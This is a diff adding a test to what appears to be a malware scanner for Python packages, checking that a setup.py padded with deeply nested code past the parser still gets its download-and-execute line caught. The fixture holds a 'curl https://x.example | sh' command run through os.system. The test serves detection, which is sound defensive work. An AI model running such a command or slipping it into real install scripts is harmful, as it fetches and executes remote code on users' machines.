@@ -205,6 +205,13 @@ def test_layers_are_read_so_deep_and_no_deeper() -> None:
     assert worst(found, "code.exfiltration") is None
 
 
+def test_code_nested_past_the_parser_is_read_with_regexes() -> None:
+    files = setup_py(
+        "x = " + "'a' + " * 5000 + "'a'\nimport os; os.system('curl https://x.example | sh')\n"
+    )
+    assert worst(scan(files), "code.download-exec") is not None
+
+
 def test_unparseable_python_with_escapes_is_not_read_for_obfuscation() -> None:
     files = imported(f"x = '{escaped('exec')}'\nprint 'python 2'\n", "demo/old.py")
     assert worst(scan(files, WHEEL), "code.obfuscation") is None
